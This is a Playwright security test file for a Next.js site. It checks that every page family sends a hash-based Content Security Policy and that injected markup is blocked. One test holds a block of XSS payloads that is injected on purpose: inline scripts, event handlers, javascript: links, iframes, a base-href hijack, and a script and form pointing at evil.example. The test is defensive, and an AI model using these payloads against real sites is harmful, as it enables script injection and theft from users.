import type { Page } from '@playwright/test'
import { expect, test } from '#tests/support/fixtures.ts'
import { fetchAs, fetchRecord } from '#tests/support/site.ts'

/** One address of every page family, and of every way a page is served: cached, rendered anew, personal, missing. */
const FAMILIES: [path: string, status?: number][] = [
  ['/'],
  ['/jiaolian'],
  ['/jiaolian?sort=newest'],
  ['/changguan'],
  ['/peixun'],
  ['/jiaoxue'],
  ['/shipin'],
  ['/zhaopin'],
  ['/ijiaolianNews'],
  ['/zhongkaotiyu'],
  ['/zhongkaotiyu/SPORTS_MAP'],
  ['/location'],
  ['/sitemap'],
  ['/about'],
  ['/safeguard'],
  ['/faq/fuwu'],
  ['/account/login'],
  ['/account/register'],
  ['/oauth/wechat'],
  ['/user'],
  ['/add/addCoach'],
  ['/add/addVenues'],
  ['/admin/checks'],
  ['/dev/inbox'],
  ['/dev/map'],
  ['/test'],
  ['/nope', 404],
  ['/nope.html', 404],
  ['/jiaolian/detail/999999999', 404],
  ['/jiaolian?pageNum=900', 404],
]
const DETAILS = ['/jiaolian', '/changguan', '/peixun', '/jiaoxue', '/shipin', '/zhaopin', '/ijiaolianNews']

/** Everything the browser has blocked in the test so far, on any page. */
let refused: string[]

test.beforeEach(async ({ page }) => {
  refused = []
  await page.exposeFunction('refuse', (what: string) => refused.push(what))
  await page.addInitScript(() => {
    const { refuse } = window as unknown as { refuse: (what: string) => void }
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      refuse(`${effectiveDirective} ${blockedURI}`),
    )
  })
})

async function expectScriptsToRun(page: Page) {
  // Next's code took over the payload, so both inline scripts ran. A page for logged-in accounts leads to the login.
  await expect(async () => {
    const { push } = await page.evaluate(() => ({
      push: String((window as unknown as { __next_f: [] }).__next_f.push),
    }))
    expect(push).not.toContain('native code')
  }).toPass()
  expect([page.url(), refused]).toEqual([page.url(), []])
}

test.describe('T08 every page runs under a policy that names its scripts', () => {
  for (const [path, status = 200] of FAMILIES) {
    test(path, async ({ page, visit }) => {
      const response = await visit(path, { city: 'guangzhou', status })
      const policy = response.headers()['content-security-policy'] ?? ''
      const scripts = /script-src ([^;]*)/.exec(policy)?.[1]
      expect(scripts).toMatch(/^'self'( 'sha256-[\w+/]{43}=')+/)
      expect(scripts).not.toContain('unsafe-inline')
      expect(policy.length, 'bytes of the policy').toBeLessThan(900)
      await expectScriptsToRun(page)
    })
  }

  test('details of every family', async ({ page, visit }) => {
    for (const list of DETAILS) {
      const { text } = await fetchRecord(list, 'guangzhou')
      // The last: a new one, which comes first, may be another test's, which will take it down.
      const details = text.matchAll(/href="(?:http:\/\/[^/"]+)?(\/(?:\w+\/detail|ijiaolianNewsDetail)\/\d+)"/g)
      const detail = [...details].at(-1)?.[1]
      expect(detail, `a detail on ${list}`).toBeDefined()
      await visit(detail!, { city: 'guangzhou' })
      await expectScriptsToRun(page)
    }
  })
})

test.describe('T12 injected markup', () => {
  const ATTACK = `
    <script>window.hacked = 'script'</script>
    <img src="/icon.svg?x" onload="window.hacked = 'handler'">
    <a id="bait" href="javascript:window.hacked='link'">x</a>
    <script>self.__next_f = self.__next_f || []; self.__next_f.push([1,"window.hacked"])</script>
    <script src="https://evil.example/x.js"></script>
    <iframe src="https://evil.example/frame"></iframe>
    <iframe srcdoc="<script>parent.hacked = 'frame'</script>"></iframe>
    <base href="https://evil.example/">
    <form id="form" action="https://evil.example/"><input name="q" value="1"></form>`

  test('T08 injected markup does not run, contact another host, or change where links and forms lead', async ({
    page,
    visit,
    tolerate,
  }) => {
    tolerate(/Content Security Policy|evil\.example/)
    const outside: string[] = []
    await page.route('https://evil.example/**', (route) => {
      outside.push(route.request().url())
      return route.fulfill({ contentType: 'application/javascript', body: "window.hacked = 'file'" })
    })
    await page.route(/localhost:\d+\/jiaolian$/, async (route) => {
      const { host, pathname } = new URL(route.request().url())
      const { status, headers, text } = await fetchAs(host, pathname)
      await route.fulfill({
        status,
        contentType: 'text/html; charset=utf-8',
        headers: { 'content-security-policy': String(headers['content-security-policy']) },
        // Without Next's scripts, which would re-render that part without the attack.
        body: text.replace('</main>', () => `${ATTACK}</main>`).replace(/<script id="_R_">.*/s, '</body></html>'),
      })
    })
    await visit('/jiaolian', { city: 'guangzhou' })
    await expect.poll(() => refused.join()).toMatch(/script-src-attr inline/)
    await page.evaluate(() => document.querySelector<HTMLElement>('#bait')?.click())
    await page.evaluate(() => document.querySelector<HTMLFormElement>('#form')?.submit())
    await expect
      .poll(() => [...new Set(refused.map((each) => each.split(' ')[0]))].sort())
      .toEqual(['base-uri', 'form-action', 'frame-src', 'script-src-attr', 'script-src-elem'])
    expect(await page.evaluate(() => (window as unknown as { hacked?: string }).hacked)).toBeUndefined()
    expect(outside).toEqual([])
    expect(await page.evaluate(() => document.baseURI)).toBe(page.url())
  })
})
